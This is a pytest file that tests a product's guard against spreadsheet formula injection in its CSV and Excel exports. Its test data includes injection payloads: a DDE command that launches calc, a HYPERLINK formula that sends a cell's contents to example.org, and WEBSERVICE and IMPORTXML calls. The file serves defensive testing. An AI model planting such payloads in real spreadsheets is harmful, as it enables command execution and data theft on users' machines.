"""A text that a spreadsheet would run stays text in every file the product writes."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import flask
import pytest
from flask.testing import FlaskClient

from cbt.candidates.models import Candidate, Registration
from cbt.candidates.roster import export
from cbt.candidates.roster.file import open_roster
from cbt.interchange.tables.format import mark, template_workbook
from cbt.paths import product_dir
from cbt.results.sheet import documents as results_workbook
from cbt.spreadsheets.writer import guarded, looks_like_formula, unguarded
from cbt.storage.unit_of_work import unit_of_work
from tests.bank.sheets import HEADERS as BANK_HEADERS
from tests.bank.sheets import sheets
from tests.world import World

FORMULAS = [
    pytest.param("=1+1", id="="),
    pytest.param("+1", id="+"),
    pytest.param("-1", id="-"),
    pytest.param("@SUM(A1)", id="@"),
    pytest.param("＝1+1", id="full-width ="),
    pytest.param("＋1", id="full-width +"),
    pytest.param("－1", id="full-width -"),
    pytest.param("＠SUM", id="full-width @"),
    pytest.param("﹦1", id="small ="),
    pytest.param("﹢1", id="small +"),
    pytest.param("﹣1", id="small -"),
    pytest.param("﹫1", id="small @"),
    pytest.param("\t=1", id="tab"),
    pytest.param("\tplain", id="tab before a word"),
    pytest.param("\r=1", id="carriage return"),
    pytest.param("\n=1", id="line feed"),
    pytest.param("\r\n=1", id="both"),
    pytest.param(" =1", id="after a space"),
    pytest.param("    =1", id="after spaces"),
    pytest.param("\u3000=1", id="after a wide space"),
    pytest.param("\u00a0=1", id="after a space that does not break"),
    pytest.param("\u200b=1", id="after a zero-width space"),
    pytest.param("\ufeff=1", id="after a byte-order mark"),
    pytest.param("\u202e=1", id="after a turn of direction"),
    pytest.param("\x01=1", id="after a control"),
    pytest.param('"=1', id="after a quote"),
    pytest.param("'=1", id="after an apostrophe"),
    pytest.param("’=1", id="after a curly apostrophe"),
    pytest.param("“=1", id="after a curly quote"),
    pytest.param("＇=1", id="after a full-width apostrophe"),
    pytest.param("＂＝1", id="after a full-width quote, full-width"),
    pytest.param("' \"=1", id="after both and a space"),
    pytest.param("=cmd|' /C calc'!A0", id="a command"),
    pytest.param('=HYPERLINK("http://example.org?"&A1,"x")', id="a link that tells"),
    pytest.param("=WEBSERVICE(\"http://example.org\")", id="a call"),
    pytest.param("=IMPORTXML(A1)", id="an import"),
    pytest.param("@=1", id="two of them"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="a sum before a command"),
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_known_and_its_mark_comes_off_again(text: str) -> None:
    assert looks_like_formula(text)
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


TEXTS = [
    pytest.param("王小明", id="a name"),
    pytest.param("a=b", id="an equals sign within"),
    pytest.param("(=)", id="a sign in brackets"),
    pytest.param("5-3", id="a span"),
    pytest.param("a@b.cn", id="an address"),
    pytest.param("—", id="a dash"),
    pytest.param("·明", id="a dot"),
    pytest.param("'", id="an apostrophe"),
    pytest.param("O'Brien", id="an apostrophe within"),
    pytest.param("", id="nothing"),
    pytest.param("   ", id="blanks"),
]


@pytest.mark.parametrize("text", TEXTS)
def test_what_is_no_formula_is_left_as_it_is(text: str) -> None:
    assert not looks_like_formula(text)
    assert guarded(text) == unguarded(text) == text


def kinds(book: bytes) -> tuple[set[str], str]:
    """Return the kinds of the cells of a workbook, and all of its sheets' XML."""
    with zipfile.ZipFile(io.BytesIO(book)) as package:
        xml = "".join(
            package.read(name).decode()
            for name in package.namelist()
            if name.startswith("xl/worksheets/sheet")
        )
    return set(re.findall(r'<c [^>]*\bt="(\w+)"', xml)), xml


def shapes_without_text(book: bytes) -> set[str]:
    """Return the styles of string cells whose format is not text: typing over them would make a formula."""
    with zipfile.ZipFile(io.BytesIO(book)) as package:
        styles = package.read("xl/styles.xml").decode()
        names = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        used = {
            style or "0"
            for name in names
            for style in re.findall(r'<c r="\w+"(?: s="(\d+)")? t="s"', package.read(name).decode())
        }
    formats = re.findall(r'<xf numFmtId="(\d+)"', styles.split("<cellXfs")[1])
    return {style for style in used if formats[int(style)] != "49"}


def roster(app: flask.Flask, text: str) -> bytes:
    with app.test_request_context():
        return export.to_xlsx([[text] * 16])


def empty_roster(app: flask.Flask, _text: str) -> bytes:
    with app.test_request_context():
        return export.template()


def marked(app: flask.Flask, text: str) -> bytes:
    with app.test_request_context():
        return mark(sheets({"试题": [BANK_HEADERS, [text] * 11]}), [])


def empty_bank(app: flask.Flask, _text: str) -> bytes:
    with app.test_request_context():
        return template_workbook()


def scores(app: flask.Flask, text: str) -> bytes:
    candidate = SimpleNamespace(name=text, document_masked=text)
    line = SimpleNamespace(row=SimpleNamespace(candidate=candidate, ticket_number=text))
    person = SimpleNamespace(
        line=line, blueprint=SimpleNamespace(papers={}, level_name=text), papers={}, overall=None
    )
    sheet = SimpleNamespace(papers=[], head=text)
    with app.test_request_context():
        return results_workbook.build(sheet, [person], subtitle=text)  # type: ignore[arg-type]  # what it reads of them


WRITERS = [
    pytest.param(roster, id="roster"),
    pytest.param(empty_roster, id="roster template"),
    pytest.param(marked, id="marked bank"),
    pytest.param(empty_bank, id="bank template"),
    pytest.param(scores, id="score book"),
]


@pytest.fixture
def database_kind() -> str:
    """What is written does not depend on the database."""
    return "sqlite"


@pytest.mark.parametrize("write", WRITERS)
@pytest.mark.parametrize(
    "text",
    [FORMULAS[0], FORMULAS[4], FORMULAS[12], FORMULAS[17], FORMULAS[33], pytest.param("1e5", id="a number")],
)
def test_a_workbook_holds_texts_and_no_formula(
    app: flask.Flask, write: Callable[[flask.Flask, str], bytes], text: str
) -> None:
    book = write(app, text)
    found, xml = kinds(book)
    assert found <= {"s"}
    assert "<f>" not in xml
    assert "<hyperlink" not in xml
    assert shapes_without_text(book) == set()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_line_marks_every_formula(app: flask.Flask, text: str) -> None:
    with app.test_request_context():
        body = export.to_csv([[text] * 16])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[1] == [f"'{text}"] * 16


@pytest.mark.parametrize("separator", [pytest.param(";", id="semicolon"), pytest.param("\t", id="tab")])
def test_a_formula_behind_another_separator_stays_in_its_cell(app: flask.Flask, separator: str) -> None:
    with app.test_request_context():
        body = export.to_csv([[f"甲{separator}=1+1"]])
    other = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=separator))
    assert not any(looks_like_formula(cell) for row in other for cell in row)


def exported(client: FlaskClient, world: World, **data: str) -> bytes:
    answer = client.post(f"/office/sittings/{world.sitting_ref}/export", data=data)
    assert answer.status_code == 200
    return answer.data


def test_a_name_that_came_in_goes_out_as_text_and_comes_in_again(world: World) -> None:
    name = "=HYPERLINK(1)"
    with world.app.app_context(), unit_of_work() as session:
        row = session.get_one(Registration, world.sitters["theory"].registration_id)
        session.get_one(Candidate, row.candidate_id).name = name
    client = world.staff("officer")
    body = exported(client, world, format="csv")
    assert f'"\'{name}"' in body.decode("utf-8-sig")
    assert name in [line[0] for line in open_roster("a.csv", body)[0].rows]
    book = exported(client, world, format="xlsx")
    assert kinds(book)[0] <= {"s"}
    assert name in [line[0] for line in open_roster("a.xlsx", book)[0].rows]


def test_no_other_module_writes_spreadsheets_or_csv() -> None:
    """Whoever writes one uses `cbt.spreadsheets.writer`: the guard stands in one place."""
    package = product_dir("templates").parent / "cbt"
    allowed = {
        Path(f"{name}.py")
        for name in ("spreadsheets/writer", "spreadsheets/cells", "spreadsheets/table_reader", "demo/people")
    }
    own = re.compile(
        r"^import (csv|xlsxwriter)|csv\.writer|\.write_string\(|[\"']num_format[\"']: [\"']@", re.M
    )
    found = {
        path.relative_to(package) for path in package.rglob("*.py") if own.search(path.read_text("utf-8"))
    }
    assert found <= allowed
